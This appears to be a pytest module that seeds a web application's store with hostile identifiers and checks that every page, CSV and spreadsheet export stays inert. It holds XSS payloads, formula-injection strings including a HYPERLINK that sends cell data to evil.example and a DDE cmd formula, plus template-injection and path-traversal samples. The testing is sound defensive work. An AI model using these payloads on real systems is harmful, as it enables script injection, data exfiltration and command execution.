"""A store in which whatever somebody may write is markup, a formula or an address: walked by links, page after page.

Every page and every file of a table is text, and every link leads to what it names, whatever signs its id has.
"""

import csv
import re
from collections import Counter, deque
from collections.abc import Iterator
from html.parser import HTMLParser
from io import BytesIO, StringIO
from typing import Any
from urllib.parse import quote, urljoin, urlsplit

import httpx
import psycopg
import pytest
from openpyxl import load_workbook
from playwright.sync_api import Browser, expect

from ledger.access.duties import Duty
from projections.export import export
from projections.freshness import ON_DEMAND
from projections.runner import catch_up
from projections.schema import migrate
from tests.access.meeting import bearer, make_key
from tests.projections.builders import PLATFORM
from tests.support.browser import context_of, follow
from tests.support.engine import Engine
from tests.support.events import operator, session, tariff
from tests.support.surface import Client, guarded

# Ids are printable ASCII, all of it.
OPERATORS = {
    "=1+1": '<script>document.title="mine"</script><img src=x onerror=alert(1)>',
    'OP"><script>alert(1)</script>': "\u202egnp.exe\u202c \u2066'\"`",
    "OP/../..": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "a b?x=1&y=2#z": "=cmd|'/C calc'!A0",
    "+%2F%00%": "@SUM(A1)",
    "O'RLY\\": "{{7*7}}${7*7}",
}
TARIFF = 'T<b>"=/?'
REFUSED = [b"<script>alert(1)</script>", b"\x00\xff=1+1", "\u202e<b>".encode() * 999, b"=" * 900_000]
# Of addresses that differ in ids alone so many are looked at; of files, which are slow to read, fewer.
_ALIKE, _FILES_ALIKE = len(OPERATORS), 2
_FORMULA = re.compile(r"^[=+\-@\t\r](?![\d.]+$)")


class Read(HTMLParser):
    """A page as a browser reads it: its links, and what should not be in it."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.links: list[str] = []
        self.alien: list[Any] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Notes links, and tags and attributes that no template of ours has."""
        for name, value in attrs:
            if name.startswith("on") or name == "style" or re.match(r"\s*(javascript|data|https?):", value or ""):
                self.alien.append((tag, name, value))
            if name in ("href", "action") and value:
                self.links.append(value)
        if tag in ("b", "i", "img", "script") and not (dict(attrs).get("src") or "").startswith("/static/"):
            self.alien.append((tag, attrs))


@pytest.fixture(scope="module")
def server(
    postgres_dsn: str, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[Client, list[dict[str, str]]]]:
    """The application on the store, and credentials of an auditor: exports of one are few."""
    with psycopg.connect(postgres_dsn, autocommit=True) as connection:
        connection.execute("CREATE DATABASE hostile")
    dsn = f"{postgres_dsn.rpartition('/')[0]}/hostile"
    migrate(dsn)
    engine = Engine(dsn)
    for number, (id_, name) in enumerate(OPERATORS.items()):
        engine.feed([operator(id_, name=name), _tariff(number, id_), *_session(number, id_)])
    engine.feed(REFUSED)
    engine.advance("2026-03-05T00:00:00Z")
    engine.close()
    export(dsn, tmp_path_factory.mktemp("hostile"), PLATFORM)
    catch_up(dsn, ON_DEMAND)
    with guarded(dsn, dev_login=True) as (client, gate):
        yield client, [bearer(make_key(gate.door, Duty.AUDITOR)) for _ in range(30)]
    with psycopg.connect(postgres_dsn, autocommit=True) as connection:
        connection.execute("DROP DATABASE hostile WITH (FORCE)")


def _tariff(number: int, operator_id: str) -> dict[str, Any]:
    return tariff(operator_id, TARIFF) | {"id": f"tariff-{number}<b>"}


def _session(number: int, operator_id: str) -> list[dict[str, Any]]:
    """A session whose ids, source and reasons are hostile, too."""
    found = session(f"S-{number}")
    for each in found:
        each["data"]["session_id"] = each["subject"] = f"S<i>\"'=&/{number}"
        each["source"] = "urn:<script>alert(1)</script>"
        each["id"] = f"=<b>{number}{each['id']}"
    found[0]["data"] |= {
        "operator_id": operator_id,
        "tariff_id": TARIFF,
        "evse_uid": f"=<u>{number}",
        "location_id": "<b>",
    }
    found[3]["data"]["reason"] = "\u202e<script>alert(1)</script>"
    found[4]["data"] |= {"payment_id": f"=P<script>{number}", "provider": "<b>psp"}
    return found


def test_every_page_and_file_is_text_and_every_link_leads_to_what_it_names(
    server: tuple[Client, list[dict[str, str]]],
) -> None:
    client, keys = server
    described = client.document("/v1/openapi.json")["paths"]
    begin = ["/operators", *(path for path, has in described.items() if "get" in has and "{" not in path)]
    waiting = deque([(path, "") for path in begin])
    seen, alike, kinds = set[str](), Counter[str](), Counter[str]()
    while waiting:
        path, led_from = waiting.popleft()
        shape = re.sub(r"(?<=/)[^/?]*[^/?a-z-][^/?]*|=[^&]*", "#", path)
        if path in seen or alike[shape] == (_FILES_ALIKE if re.search(r"format=|\.pdf", path) else _ALIKE):
            continue
        seen.add(path)
        alike[shape] += 1
        answer = client.get(path, headers=keys[len(seen) % len(keys)] | {"Accept": "text/html, */*"})
        expected = (200, 303, *((400, 403) if path in described else ()))
        assert answer.status_code in expected, (path, led_from, answer.text[-2_000:])
        kinds[answer.headers.get("content-type", "").partition(";")[0]] += 1
        waiting.extend((link, path) for link in _links(path, answer))
    assert min(kinds["text/html"], kinds["text/csv"], kinds["application/json"]) > 40, kinds
    for id_ in OPERATORS:
        assert f"/operators/{quote(id_, safe='')}" in seen


def _links(path: str, answer: httpx.Response) -> list[str]:
    """What an answer leads to, once it is known to be text."""
    kind = answer.headers.get("content-type", "").partition(";")[0]
    if answer.is_redirect:
        return [answer.headers["location"]]
    if kind == "text/html":
        read = Read(answer.text)
        assert read.alien == [], path
        assert "\0" not in answer.text, path
        found = [urljoin(path, each).partition("#")[0] for each in read.links]
        assert [each for each in found if urlsplit(each).netloc] == [], path
        return [each for each in found if not re.match(r"/(static|login|logout)\b", each)]
    if kind == "text/csv":
        cells = [cell for row in csv.reader(StringIO(answer.text, newline="")) for cell in row]
        assert [cell for cell in cells if _FORMULA.match(cell)] == [], path
    elif kind.endswith("sheet"):
        written: list[Any] = [
            cell for sheet in load_workbook(BytesIO(answer.content)) for row in sheet.rows for cell in row
        ]
        assert [cell.value for cell in written if cell.data_type == "f" or _FORMULA.match(str(cell.value))] == [], (
            path
        )
    return []


def test_nothing_of_it_runs_in_a_browser(browser: Browser, server: tuple[Client, Any]) -> None:
    client, _ = server
    said: list[str] = []
    context = context_of(browser, base_url=str(client.base_url))
    page = context.new_page()
    page.on("dialog", lambda dialog: said.append(dialog.message))
    page.on("console", lambda message: said.append(message.text))
    page.on(
        "request", lambda request: said.extend([] if request.url.startswith(str(client.base_url)) else [request.url])
    )
    page.goto("/login")
    follow(page.get_by_role("button", name=re.compile("auditor", re.IGNORECASE)))
    for path in ("/operators", "/sessions", "/journal", "/dead-letters", "/breaks", "/tariffs"):
        page.goto(path)
        assert page.title() != "mine"
        if page.locator("tbody a").count():
            follow(page.locator("tbody a").first)
            expect(page.locator("h1")).to_have_count(1)
    assert said == []
    context.close()
